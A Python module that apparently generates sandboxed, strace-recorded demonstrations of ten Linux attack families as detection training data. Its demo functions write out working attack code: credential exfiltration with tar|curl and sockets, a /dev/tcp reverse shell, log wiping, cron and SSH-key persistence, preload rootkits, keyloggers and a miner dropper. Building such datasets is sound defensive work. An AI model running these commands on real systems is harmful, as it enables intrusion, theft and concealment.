"""Harmless, real versions of the ten attack families, three tools each.

Every demonstration runs a real tool (a C program from capture_programs.py,
a python3 script or a shell pipeline) that does what an attack does, and is
recorded under strace. What each mirrors is in its ``mirrors`` text; why it
cannot hurt the machine is in ``harmless``. In short: writes to system paths
land in the sandbox's overlays (capture_sandbox.py) and are thrown away,
"remote" hosts are an address on the sandbox's isolated loopback, the
injection victim is a ``sleep`` of the builder's own, the keyboard is a file.
Demos with ``needs_sandbox`` are skipped when no sandbox can be made.
"""

from __future__ import annotations

import contextlib
import http.server
import os
import shlex
import socket
import textwrap
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from strace_tools import current_tracer, serve_http, with_listener

PYTHON = "/usr/bin/python3" if Path("/usr/bin/python3").exists() else "python3"


@dataclass
class DemoContext:
    """What a demonstration needs; ``trace`` records and remembers the command."""

    log: Path
    work: Path
    tmp: Path
    bins: Path
    remote: str
    home: Path
    victim: int
    command: list[str] = field(default_factory=list)

    def trace(self, argv: list[str], *, follow: bool = True,
              timeout: float = 30.0) -> None:
        self.command = list(argv)
        current_tracer().run(self.log, argv, self.work, follow=follow,
                             env={**os.environ, "HOME": str(self.home)},
                             timeout=timeout)

    def python(self, name: str, code: str, *args: str) -> None:
        script = self.work / name
        script.write_text(textwrap.dedent(code))
        self.trace([PYTHON, str(script), *args])

    def shell(self, script: str) -> None:
        self.trace(["sh", "-c", script])


@dataclass(frozen=True)
class Demo:
    name: str
    family: str
    variant: str
    mirrors: str
    harmless: str
    run: Callable[[DemoContext], None]
    needs_sandbox: bool = False


class _Upload(http.server.BaseHTTPRequestHandler):
    payloads: dict[str, bytes] = {}

    def do_GET(self) -> None:  # noqa: N802 - http.server's naming
        body = self.payloads.get(self.path, b"not found")
        self.send_response(200 if self.path in self.payloads else 404)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_PUT(self) -> None:  # noqa: N802
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        elif self.headers.get("Transfer-Encoding") == "chunked":
            while (size := int(self.rfile.readline().strip() or b"0", 16)):
                self.rfile.read(size + 2)
            self.rfile.readline()
        self.send_response(201)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_PUT  # noqa: N815 - http.server's naming

    def log_message(self, *args) -> None:
        pass


@contextlib.contextmanager
def http_listener(host: str, payloads: dict[str, bytes]) -> Iterator[int]:
    """An HTTP server on ``host`` serving ``payloads`` and accepting uploads."""
    handler = type("Handler", (_Upload,), {"payloads": payloads})
    with serve_http(handler, host) as port:
        yield port


@contextlib.contextmanager
def udp_responder(host: str) -> Iterator[int]:
    """A UDP socket on ``host`` answering every datagram (a fake resolver)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((host, 0))
    sock.settimeout(0.2)
    done = threading.Event()

    def answer() -> None:
        while not done.is_set():
            try:
                data, peer = sock.recvfrom(512)
            except TimeoutError:
                continue
            except OSError:
                return
            sock.sendto(data[:32] + b"\x00\x01", peer)

    thread = threading.Thread(target=answer, daemon=True)
    thread.start()
    try:
        yield sock.getsockname()[1]
    finally:
        done.set()
        thread.join(2)
        sock.close()


# ------------------------------------------------------- process_injection

def _inject_c(ctx: DemoContext) -> None:
    # Not following children: the injector forks none, and strace must not
    # hold the victim (a traced process cannot be attached twice).
    ctx.trace([str(ctx.bins / "inject_ptrace"), str(ctx.victim)], follow=False)


def _inject_python(ctx: DemoContext) -> None:
    ctx.python("inject.py", """\
        import re, sys
        pid = int(sys.argv[1])
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            f.read()
        with open(f"/proc/{pid}/maps") as f:
            regions = [line.split() for line in f]
        start, end = (int(x, 16) for x in next(
            r for r in regions if r[-1] == "[stack]")[0].split("-"))
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
            for at in range(end - 4096, end - 4096 + 8 * 64, 64):
                mem.seek(at)
                word = mem.read(8)
                mem.seek(at)
                mem.write(word)
        """, str(ctx.victim))


def _inject_shell(ctx: DemoContext) -> None:
    ctx.shell(f"mkdir -p {ctx.tmp}/.fonts && "
              f"cp {ctx.bins}/preload.so {ctx.tmp}/.fonts/.libfc.so && "
              f"LD_PRELOAD={ctx.tmp}/.fonts/.libfc.so ls / > /dev/null && "
              f"LD_PRELOAD={ctx.tmp}/.fonts/.libfc.so id > /dev/null")


# ---------------------------------------------------- privilege_escalation

def _escalate_c(ctx: DemoContext) -> None:
    ctx.trace([str(ctx.bins / "suid_escalate")])


def _escalate_python(ctx: DemoContext) -> None:
    ctx.python("sudo_python.py", """\
        import os
        for path in ("/etc/shadow", "/etc/sudoers"):
            try:
                with open(path) as f:
                    f.read()
            except OSError:
                pass
        try:
            os.setresuid(0, 0, 0)
            os.setgid(0)
        except OSError:
            pass
        os.execv("/bin/sh", ["sh", "-c", "id; cat /etc/shadow > /dev/null"])
        """)


def _escalate_shell(ctx: DemoContext) -> None:
    ctx.shell(f"cp /bin/sh {ctx.tmp}/.sh && chmod 4755 {ctx.tmp}/.sh && "
              f"{ctx.tmp}/.sh -p -c 'id; head -n 2 /etc/shadow' > /dev/null; "
              f"rm -f {ctx.tmp}/.sh")


# ----------------------------------------------------------- file_tampering

def _tamper_shell(ctx: DemoContext) -> None:
    ctx.shell("sed -i '2i : \"${SSH_CLIENT:+$(cat /etc/shadow >/dev/null)}\"' "
              "/usr/bin/zcat && touch -r /usr/bin/gzip /usr/bin/zcat && "
              "chmod 755 /usr/bin/zcat")


def _tamper_c(ctx: DemoContext) -> None:
    library = next(Path("/usr/lib/x86_64-linux-gnu").glob("libz.so.1.*"),
                   Path("/usr/lib/x86_64-linux-gnu/libc.so.6"))
    ctx.trace([str(ctx.bins / "patch_library"), str(library),
               "/var/log/kern.log"])


def _tamper_python(ctx: DemoContext) -> None:
    ctx.python("wipe.py", """\
        import os, sys
        home = os.path.expanduser("~")
        for path in ("/var/log/auth.log", "/var/log/kern.log"):
            with open(path) as f:
                kept = [line for line in f if "Accepted" not in line]
            with open(path, "w") as f:
                f.writelines(kept)
        os.truncate("/var/log/auth.log", 0)
        os.unlink(os.path.join(home, ".bash_history"))
        stamp = os.stat("/usr/bin/gzip").st_mtime
        for path in ("/var/log/auth.log", "/var/log/kern.log"):
            os.utime(path, (stamp, stamp))
        """)


# ----------------------------------------------------- network_exfiltration

def _exfil_python(ctx: DemoContext) -> None:
    code = """\
        import os, socket, sys
        s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
        for path in ("/etc/shadow", os.path.expanduser("~/.ssh/id_ed25519"),
                     "/etc/passwd", "/etc/hosts"):
            with open(path, "rb") as f:
                while chunk := f.read(256):
                    s.sendall(chunk)
        s.close()
        """
    with_listener(b"", lambda port: ctx.python(
        "exfil.py", code, ctx.remote, str(port)), host=ctx.remote)


def _exfil_shell(ctx: DemoContext) -> None:
    with http_listener(ctx.remote, {}) as port:
        ctx.shell(f"tar czf - -C / etc/passwd etc/ssh {ctx.home}/.ssh 2>/dev/null "
                  f"| curl -s -T - http://{ctx.remote}:{port}/up > /dev/null")


def _exfil_c(ctx: DemoContext) -> None:
    with udp_responder(ctx.remote) as port:
        ctx.trace([str(ctx.bins / "dns_tunnel"), ctx.remote, str(port),
                   "/etc/passwd"])


# ---------------------------------------------------- persistence_mechanism

def _persist_shell(ctx: DemoContext) -> None:
    ctx.shell("echo '*/5 * * * * root /tmp/.update >/dev/null 2>&1' "
              "> /etc/cron.d/sentinel-update && "
              "(crontab -l 2>/dev/null; echo '@reboot /tmp/.update') | crontab - && "
              "echo '/tmp/.update &' >> ~/.bashrc")


def _persist_python(ctx: DemoContext) -> None:
    ctx.python("add_key.py", """\
        import os
        ssh = os.path.expanduser("~/.ssh")
        os.makedirs(ssh, exist_ok=True)
        keys = os.path.join(ssh, "authorized_keys")
        with open(keys, "a") as f:
            f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoKey operator\\n")
        os.chmod(keys, 0o600)
        """)


def _persist_c(ctx: DemoContext) -> None:
    ctx.trace([str(ctx.bins / "systemd_persist")])


# --------------------------------------------------------------- keylogging

def _keylog_c(ctx: DemoContext) -> None:
    ctx.trace([str(ctx.bins / "keylogger"), f"{ctx.tmp}/.Xkeys"])


def _keylog_python(ctx: DemoContext) -> None:
    ctx.python("keys.py", """\
        import os, select, struct, sys
        out = open(sys.argv[1], "ab", buffering=0)
        with open("/dev/input/event0", "rb", buffering=0) as device:
            while True:
                select.select([device], [], [], 1.0)
                record = device.read(24)
                if len(record) < 24:
                    break
                _, _, kind, code, value = struct.unpack("llHHi", record)
                if kind == 1 and value == 1:
                    out.write(b"%d " % code)
        out.close()
        """, f"{ctx.tmp}/.cache-keys")


def _keylog_shell(ctx: DemoContext) -> None:
    ctx.shell(f"for i in 1 2 3 4 5 6; do "
              f"dd if=/dev/input/event0 bs=24 count=40 skip=$((i * 40)) "
              f"2>/dev/null | od -An -tu2 >> {ctx.tmp}/.k; done")


# ------------------------------------------------------------ crypto_mining

def _pool(ctx: DemoContext, run: Callable[[int], None]) -> None:
    with_listener(b'{"id":1,"result":{"job":{"blob":"0707","target":"b88d0600"}}}\n',
                  run, host=ctx.remote)


def _mine_c(ctx: DemoContext) -> None:
    _pool(ctx, lambda port: ctx.trace([str(ctx.bins / "miner"), ctx.remote,
                                       str(port)]))


def _mine_python(ctx: DemoContext) -> None:
    code = """\
        import os, sys
        fd = os.memfd_create("kworker", 0)
        with open(sys.argv[1], "rb") as payload:
            while chunk := payload.read(65536):
                os.write(fd, chunk)
        os.execv(f"/proc/self/fd/{fd}", ["kworker", sys.argv[2], sys.argv[3]])
        """
    _pool(ctx, lambda port: ctx.python("fileless.py", code, str(ctx.bins / "miner"),
                                       ctx.remote, str(port)))


def _mine_shell(ctx: DemoContext) -> None:
    miner = (ctx.bins / "miner").read_bytes()
    with http_listener(ctx.remote, {"/xmrig": miner}) as web:
        _pool(ctx, lambda port: ctx.shell(
            f"curl -s -o {ctx.tmp}/.xmrig http://{ctx.remote}:{web}/xmrig && "
            f"chmod +x {ctx.tmp}/.xmrig && {ctx.tmp}/.xmrig {ctx.remote} {port}"))


# ------------------------------------------------------------------ rootkit

def _rootkit_c(ctx: DemoContext) -> None:
    module = ctx.tmp / ".hid.ko"
    module.write_bytes(b"\x00" * 2048)  # not ELF: the kernel refuses it
    ctx.trace([str(ctx.bins / "rootkit_loader"), str(module), str(ctx.victim)])


def _rootkit_shell(ctx: DemoContext) -> None:
    ctx.shell("cp /usr/bin/ps /usr/lib/.ps.orig && "
              "printf '#!/bin/sh\\n/usr/lib/.ps.orig \"$@\" | grep -v xmrig\\n' "
              "> /usr/bin/ps && chmod 755 /usr/bin/ps && "
              "touch -r /usr/bin/top /usr/bin/ps && "
              "echo hid > /etc/modules-load.d/hid.conf && : > /var/log/kern.log")


def _rootkit_python(ctx: DemoContext) -> None:
    ctx.python("preload_rootkit.py", """\
        import os, shutil, sys
        lib = "/usr/lib/x86_64-linux-gnu/libselinux-helper.so"
        with open(sys.argv[1], "rb") as src, open(lib, "wb") as dst:
            while chunk := src.read(4096):
                dst.write(chunk)
        os.chmod(lib, 0o755)
        with open("/etc/ld.so.preload", "a") as f:
            f.write(lib + "\\n")
        stamp = os.stat("/usr/lib/x86_64-linux-gnu/libc.so.6").st_mtime
        os.utime(lib, (stamp, stamp))
        """, str(ctx.bins / "preload.so"))


# --------------------------------------------------------- lateral_movement

def _lateral_shell(ctx: DemoContext) -> None:
    with_listener(b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n", lambda port: ctx.shell(
        f"cat ~/.ssh/id_ed25519 > /dev/null; ssh -i ~/.ssh/id_ed25519 -p {port} "
        f"-o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 "
        f"-o UserKnownHostsFile=/dev/null admin@{ctx.remote} id"), host=ctx.remote)


def _lateral_python(ctx: DemoContext) -> None:
    ctx.python("scan.py", """\
        import socket, sys
        base = sys.argv[1].rsplit(".", 1)[0]
        hosts = [sys.argv[1]] + [f"{base}.{n}" for n in range(1, 6)]
        for host in hosts:
            for port in (22, 23, 80, 139, 443, 445, 3389, 5900, 8080):
                s = socket.socket()
                s.settimeout(0.2)
                s.connect_ex((host, port))
                s.close()
        """, ctx.remote)


def _lateral_c(ctx: DemoContext) -> None:
    with_listener(b"id\nuname -a\nexit\n", lambda port: ctx.trace(
        [str(ctx.bins / "reverse_shell"), ctx.remote, str(port)]), host=ctx.remote)


def _lateral_bash(ctx: DemoContext) -> None:
    with_listener(b"id\nhostname\nexit\n", lambda port: ctx.trace(
        ["bash", "-c", f"bash -i >& /dev/tcp/{ctx.remote}/{port} 0>&1"]),
        host=ctx.remote)


# ---------------------------------------------------- registry_manipulation

def _registry_shell(ctx: DemoContext) -> None:
    ctx.shell("sysctl -q -w net.ipv4.ip_forward=1 && "
              "echo 0 > /proc/sys/net/ipv4/conf/all/rp_filter && "
              "echo 'net.ipv4.ip_forward = 1' > /etc/sysctl.d/99-forward.conf")


def _registry_python(ctx: DemoContext) -> None:
    ctx.python("hosts.py", """\
        import os
        for path, line in (("/etc/hosts", "198.51.100.7 updates.example.com\\n"),
                           ("/etc/resolv.conf", "nameserver 198.51.100.7\\n")):
            try:
                with open(path) as f:
                    text = f.read()
            except OSError:
                text = ""
            with open(path + ".tmp", "w") as f:
                f.write(line + text)
                f.flush()
                os.fsync(f.fileno())
            os.rename(path + ".tmp", path)
        """)


def _registry_c(ctx: DemoContext) -> None:
    ctx.trace([str(ctx.bins / "pam_backdoor")])


_OVERLAY = "writes land in the sandbox's overlay copy and are discarded"
_NET = "the remote host is an address on the sandbox's isolated loopback"
_TMP = "files live in the sandbox's private tmpfs, removed afterwards"
_VICTIM = "the victim is a sleep of the builder's own, left as it was"

DEMOS: tuple[Demo, ...] = (
    Demo("inject_ptrace_c", "process_injection", "c",
         "ptrace shellcode injectors: attach, read registers, poke memory",
         _VICTIM + "; every word poked is the word read", _inject_c),
    Demo("inject_procmem_python", "process_injection", "python",
         "injection through /proc/<pid>/mem after reading maps",
         _VICTIM + "; bytes written back unchanged", _inject_python),
    Demo("inject_preload_shell", "process_injection", "shell",
         "LD_PRELOAD of a hidden payload library running W+X code",
         _TMP + "; the payload only returns", _inject_shell),
    Demo("escalate_suid_c", "privilege_escalation", "c",
         "a set-uid exploit: hashes read, splice staging, setuid(0), shell",
         "no file is written; the shell only runs id", _escalate_c),
    Demo("escalate_sudo_python", "privilege_escalation", "python",
         "GTFOBins: a sudo-granted python becoming root and spawning a shell",
         "reads only; the shell only runs id", _escalate_python),
    Demo("escalate_suid_shell", "privilege_escalation", "shell",
         "a set-uid copy of the shell hidden in /tmp",
         _TMP + "; the copy is deleted at once", _escalate_shell, True),
    Demo("tamper_script_shell", "file_tampering", "shell",
         "sed -i backdooring a system script, then timestomping it",
         _OVERLAY, _tamper_shell, True),
    Demo("tamper_library_c", "file_tampering", "c",
         "patching a library in place, restoring its times, removing a log",
         _OVERLAY + "; the bytes written equal the bytes read", _tamper_c, True),
    Demo("tamper_logs_python", "file_tampering", "python",
         "log and history wiping with timestomping",
         _OVERLAY + "; the logs are seeded fakes", _tamper_python, True),
    Demo("exfil_socket_python", "network_exfiltration", "python",
         "credentials and keys streamed to a remote host",
         _NET + "; the key is a seeded fake", _exfil_python),
    Demo("exfil_curl_shell", "network_exfiltration", "shell",
         "tar | curl -T uploading /etc and ~/.ssh", _NET, _exfil_shell),
    Demo("exfil_dns_c", "network_exfiltration", "c",
         "DNS tunnelling: a file hex-encoded into UDP queries", _NET, _exfil_c),
    Demo("persist_cron_shell", "persistence_mechanism", "shell",
         "cron.d entry, user crontab and .bashrc line", _OVERLAY,
         _persist_shell, True),
    Demo("persist_sshkey_python", "persistence_mechanism", "python",
         "an operator key appended to authorized_keys", _OVERLAY,
         _persist_python, True),
    Demo("persist_systemd_c", "persistence_mechanism", "c",
         "a systemd unit and its enablement symlink", _OVERLAY, _persist_c, True),
    Demo("keylog_evdev_c", "keylogging", "c",
         "an evdev keylogger writing keys to a dot file",
         "the keyboard is a file of fake key events; " + _TMP, _keylog_c, True),
    Demo("keylog_select_python", "keylogging", "python",
         "a python keylogger polling the input device with select",
         "the keyboard is a file of fake key events; " + _TMP, _keylog_python,
         True),
    Demo("keylog_dd_shell", "keylogging", "shell",
         "a shell loop sniffing the input device with dd | od",
         "the keyboard is a file of fake key events; " + _TMP, _keylog_shell,
         True),
    Demo("mine_pool_c", "crypto_mining", "c",
         "a miner: pool login, JIT page, hashing threads, shares",
         _NET + "; it hashes for under a second", _mine_c),
    Demo("mine_memfd_python", "crypto_mining", "python",
         "a fileless miner run from a memfd", _NET + "; under a second",
         _mine_python),
    Demo("mine_dropper_shell", "crypto_mining", "shell",
         "curl a miner into /tmp, chmod, run it", _NET + "; " + _TMP,
         _mine_shell),
    Demo("rootkit_module_c", "rootkit", "c",
         "a kernel module loader, then signals and /proc listing",
         "the module is zeros, which the kernel refuses; " + _VICTIM,
         _rootkit_c, True),
    Demo("rootkit_trojan_shell", "rootkit", "shell",
         "a trojaned ps hiding the miner, a modules-load entry, log wiped",
         _OVERLAY, _rootkit_shell, True),
    Demo("rootkit_preload_python", "rootkit", "python",
         "a user-land rootkit library installed with /etc/ld.so.preload",
         _OVERLAY + "; the library only returns", _rootkit_python, True),
    Demo("lateral_ssh_shell", "lateral_movement", "shell",
         "ssh to a neighbour with a stolen key", _NET + "; the key is fake",
         _lateral_shell),
    Demo("lateral_scan_python", "lateral_movement", "python",
         "a scan of the neighbourhood's service ports", _NET + "; no route out",
         _lateral_python),
    Demo("lateral_revshell_c", "lateral_movement", "c",
         "a reverse shell: connect back, dup2 onto stdio, exec sh",
         _NET + "; the operator only sends id", _lateral_c),
    Demo("lateral_revshell_bash", "lateral_movement", "shell",
         "bash -i >& /dev/tcp reverse shell", _NET + "; the operator sends id",
         _lateral_bash),
    Demo("registry_sysctl_shell", "registry_manipulation", "shell",
         "sysctl and /proc/sys changes made permanent in sysctl.d",
         "the knobs belong to the sandbox's own network namespace; " + _OVERLAY,
         _registry_shell, True),
    Demo("registry_hosts_python", "registry_manipulation", "python",
         "/etc/hosts and resolv.conf redirected via temporary copies",
         _OVERLAY, _registry_python, True),
    Demo("registry_pam_c", "registry_manipulation", "c",
         "PAM rewritten so any password works", _OVERLAY, _registry_c, True),
)


def command_text(argv: list[str]) -> str:
    """A shell-quoted command for labels.csv."""
    return shlex.join(argv)
